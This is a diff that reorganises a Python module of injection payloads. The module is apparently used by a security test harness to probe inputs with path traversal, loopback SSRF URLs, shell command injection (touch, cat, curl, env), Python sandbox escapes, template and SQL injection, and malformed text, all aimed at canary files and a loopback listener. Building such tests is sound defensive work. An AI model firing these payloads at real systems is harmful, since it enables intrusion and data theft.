@@ -3,7 +3,8 @@
 Words in angle brackets are filled in for every attempt: <FILE> is a file outside of every root, <BARE> the same without
 its first slash, <MARK> a file that must not come to exist, <HOST> a listener on loopback, <TOKEN> which attempt this
 is, <A> and <B> two halves of a word that only an evaluator would join, <VALID> a valid value, <ARG> the argument's
-name. Only loopback is ever pointed at.
+name, <BRACE> an opening brace: two in a row would be read by the template that this file came from. Only loopback is
+ever pointed at.
 """
 
 ADVICE = {
@@ -20,97 +21,43 @@ ADVICE = {
 }
 
 _UP = "../" * 16
+_UPS = ("....//", "..././", "%2e%2e%2f", "%252e%252e%252f", "..%2f", "..%5c", "..\\", "\uff0e\uff0e/", "..\u2215",
+        "..%c0%af")  # fmt: skip
 
 PATH = [
-    "<FILE>",
-    "<BARE>",
-    _UP + "<FILE>",
-    "./" + _UP + "<FILE>",
-    "<VALID>/" + _UP + "<FILE>",
-    "....//" * 16 + "<FILE>",
-    "..././" * 16 + "<FILE>",
-    "%2e%2e%2f" * 16 + "<FILE>",
-    "%252e%252e%252f" * 16 + "<FILE>",
-    "..%2f" * 16 + "<FILE>",
-    "..%5c" * 16 + "<FILE>",
-    "..\\" * 16 + "<FILE>",
-    "\uff0e\uff0e/" * 16 + "<FILE>",
-    "..\u2215" * 16 + "<FILE>",
-    "..%c0%af" * 16 + "<FILE>",
-    "//<FILE>",
-    "/.<FILE>",
-    "/proc/self/root<FILE>",
-    "/proc/self/environ",
-    "/proc/self/cwd/canary-link",
-    "~/" + _UP + "<FILE>",
-    "<FILE>\x00.txt",
-    "<FILE>\x00",
-    " <FILE>",
-    "canary-link",
-    "./canary-link",
-    "canary-directory/secret.txt",
-    "file://<FILE>",
-    "<MARK>",
-    _UP + "<MARK>",
-    "<VALID>/" + _UP + "<MARK>",
+    *("<FILE>", "<BARE>", "//<FILE>", "/.<FILE>", " <FILE>", "<FILE>\x00.txt", "<FILE>\x00", "file://<FILE>"),
+    *(before + _UP + "<FILE>" for before in ("", "./", "<VALID>/", "~/")),
+    *(up * 16 + "<FILE>" for up in _UPS),
+    *("/proc/self/root<FILE>", "/proc/self/environ", "/proc/self/cwd/canary-link"),
+    *("canary-link", "./canary-link", "canary-directory/secret.txt"),
+    *("<MARK>", _UP + "<MARK>", "<VALID>/" + _UP + "<MARK>"),
 ]
+_LOOPBACK = ("127.0.0.1", "localhost", "LOCALHOST.", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0",
+             "[::1]", "[::ffff:127.0.0.1]", "\u2460\u2461\u2466.0.0.1", "public.invalid@127.0.0.1")  # fmt: skip
 URL = [
-    "http://<HOST>/<TOKEN>",
-    "http://localhost:<PORT>/<TOKEN>",
-    "http://LOCALHOST.:<PORT>/<TOKEN>",
-    "https://<HOST>/<TOKEN>",
-    "http://2130706433:<PORT>/<TOKEN>",
-    "http://0x7f000001:<PORT>/<TOKEN>",
-    "http://0177.0.0.1:<PORT>/<TOKEN>",
-    "http://127.1:<PORT>/<TOKEN>",
-    "http://0.0.0.0:<PORT>/<TOKEN>",
-    "http://[::1]:<PORT>/<TOKEN>",
-    "http://[::ffff:127.0.0.1]:<PORT>/<TOKEN>",
-    "http://\u2460\u2461\u2466.0.0.1:<PORT>/<TOKEN>",
-    "http://public.invalid@<HOST>/<TOKEN>",
+    *(f"http://{host}:<PORT>/<TOKEN>" for host in _LOOPBACK),
+    *(f"{scheme}//<HOST>/<TOKEN>" for scheme in ("https:", "ftp:", "\thttp:", "url:http:", "")),
+    "<HOST>/<TOKEN>",
     "http://<HOST>\\@public.invalid/<TOKEN>",
     "http://<HOST>/redirect/<TOKEN>",
     "http://<HOST>/latest/meta-data/<TOKEN>",
-    "\thttp://<HOST>/<TOKEN>",
-    "url:http://<HOST>/<TOKEN>",
-    "//<HOST>/<TOKEN>",
-    "<HOST>/<TOKEN>",
-    "ftp://<HOST>/<TOKEN>",
-    "file://<FILE>",
-    "file://localhost<FILE>",
-    "FILE:<FILE>",
+    *("file://<FILE>", "file://localhost<FILE>", "FILE:<FILE>"),
 ]
 SHELL = [
     *(f"<VALID>{glue}touch <MARK>" for glue in ("; ", " | ", " || ", " && ", " & ", "\n", "\r\n")),
-    "<VALID>; touch <MARK> #",
-    "; touch <MARK>;",
-    "$(touch <MARK>)",
-    "`touch <MARK>`",
-    "<VALID>$(touch <MARK>)",
-    *(f"{quote}; touch <MARK>; {quote}" for quote in "'\""),
-    *(f"{quote}; touch <MARK> #" for quote in "'\""),
-    "') ; touch <MARK> #",
-    '"$(touch <MARK>)"',
-    ";touch${IFS}<MARK>",
-    ";{touch,<MARK>}",
-    "$(touch\t<MARK>)",
-    "touch <MARK>",
-    "--output=<MARK>",
-    "-o<MARK>",
-    "--upload-pack=touch <MARK>",
-    "--checkpoint-action=exec=touch <MARK>",
-    "; cat <FILE>",
-    "'; cat '<FILE>",
-    "; curl http://<HOST>/<TOKEN>",
-    "; env",
+    *(f"{quote}; touch <MARK>{end}" for quote in "'\"" for end in (" #", f"; {quote}")),
+    *("<VALID>; touch <MARK> #", "; touch <MARK>;", "') ; touch <MARK> #", "touch <MARK>"),
+    *("$(touch <MARK>)", "`touch <MARK>`", "<VALID>$(touch <MARK>)", '"$(touch <MARK>)"', "$(touch\t<MARK>)"),
+    *(";touch${IFS}<MARK>", ";{touch,<MARK>}"),
+    *("--output=<MARK>", "-o<MARK>", "--upload-pack=touch <MARK>", "--checkpoint-action=exec=touch <MARK>"),
+    *("; cat <FILE>", "'; cat '<FILE>", "; curl http://<HOST>/<TOKEN>", "; env"),
 ]
 CODE = [
     "__import__('pathlib').Path('<MARK>').touch()",
     "__import__('os').system('touch <MARK>')",
     "open('<MARK>', 'w').write('x')",
     "import pathlib; pathlib.Path('<MARK>').touch()",
-    "'); open('<MARK>', 'w'); ('",
-    "\"); open('<MARK>', 'w'); (\"",
+    *(f"{end}); open('<MARK>', 'w'); ({end}" for end in "'\""),
     "' + str(open('<MARK>', 'w')) + '",
     "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
     ".__init__.__globals__['system']('touch <MARK>')",
@@ -120,16 +67,11 @@ CODE = [
     "!!python/object/apply:os.system ['touch <MARK>']",
 ]
 TEMPLATE = [
-    "{{ '<A>' ~ '<B>' }}",
-    "{{ cycler.__init__.__globals__.os.popen('touch <MARK>').read() }}",
-    "{% for a in ['<A>'] %}{{ a }}<B>{% endfor %}",
-    "${'<A>' + '<B>'}",
-    "#{'<A>' + '<B>'}",
-    "<%= '<A>' + '<B>' %>",
-    "{'<A>' + '<B>'}",
-    "{0.__class__}",
-    "{<ARG>.__class__}",
-    "{.__class__}",
+    "<BRACE>{ '<A>' ~ '<B>' }}",
+    "<BRACE>{ cycler.__init__.__globals__.os.popen('touch <MARK>').read() }}",
+    "<BRACE>% for a in ['<A>'] %}<BRACE>{ a }}<B><BRACE>% endfor %}",
+    *(f"{begin}'<A>' + '<B>'{end}" for begin, end in (("${", "}"), ("#{", "}"), ("{", "}"), ("<%= ", " %>"))),
+    *("{0.__class__}", "{<ARG>.__class__}", "{.__class__}"),
 ]
 _JOIN = "'<A>' || '<B>'"
 SQL = [
@@ -139,12 +81,7 @@ SQL = [
         for before in ("'", '"', "0", "')", "%'")
         for columns in (1, 2, 3, 4)
     ),
-    "<VALID>' OR '1'='1",
-    "' OR 1=1 -- ",
-    '" OR 1=1 -- ',
-    "0 OR 1=1",
-    "%' OR '1' LIKE '1",
-    "%",
+    *("<VALID>' OR '1'='1", "' OR 1=1 -- ", '" OR 1=1 -- ', "0 OR 1=1", "%' OR '1' LIKE '1", "%"),
     *(
         f"{before}; ATTACH DATABASE '<MARK>' AS canary; CREATE TABLE canary.t (a); -- "
         for before in ("'", "')", '"', "0")
@@ -163,29 +100,13 @@ TEXT = [
     "a" + "\ufe0f\U000e0101" * 4,
     "a\r\nSet-Cookie: canary=1\r\n\r\n",
     "a\x00b",
-    "\x1b[2J\x1b]0;a\x07",
-    "\ud800",
-    "\ufdd0\uffff",
-    "e" + "\u0301" * 200,
-    "-",
-    "",
-    "'",
-    '"',
-    "a" * 100_000,
-    "\u20ac" * 60_000,
-    "[" * 5000,
-    "9" * 5000,
+    *("\x1b[2J\x1b]0;a\x07", "\ud800", "\ufdd0\uffff", "-", "", "'", '"'),
+    *("e" + "\u0301" * 200, "a" * 100_000, "\u20ac" * 60_000, "[" * 5000, "9" * 5000),
 ]
 TYPES: list[object] = [None, True, -1, 2**63, 10**400, 1e308, [], ["<FILE>"], {}, {"$ne": None}, {"__class__": "a"}]
 
 FAMILIES = {
-    "path": PATH,
-    "shell": SHELL,
-    "code": CODE,
-    "template": TEMPLATE,
-    "sql": SQL,
-    "xml": XML,
-    "text": TEXT,
+    **{"path": PATH, "shell": SHELL, "code": CODE, "template": TEMPLATE, "sql": SQL, "xml": XML, "text": TEXT},
     "url": URL,
 }
 
@@ -196,10 +117,8 @@ LADDERS = [
     *(("regex", [unit * length + end for length in _LENGTHS]) for unit, end in (("a", "!"), (" ", "x"), ("<", ""))),
     ("sql", ["' UNION SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<9000000)"
              " SELECT count(*) FROM c) -- "]),
-    ("sql", ["'; SELECT pg_sleep(2) -- "]),
-    ("sql", ["' OR SLEEP(2) -- "]),
-    ("shell", ["<VALID>; sleep 2"]),
-    ("shell", ["'; sleep 2; '"]),
+    *(("sql", [payload]) for payload in ("'; SELECT pg_sleep(2) -- ", "' OR SLEEP(2) -- ")),
+    *(("shell", [payload]) for payload in ("<VALID>; sleep 2", "'; sleep 2; '")),
     ("code", ["__import__('time').sleep(2)"]),
 ]  # fmt: skip
 """Each is climbed until an answer is slow: an exploding regex shows before it takes for ever."""
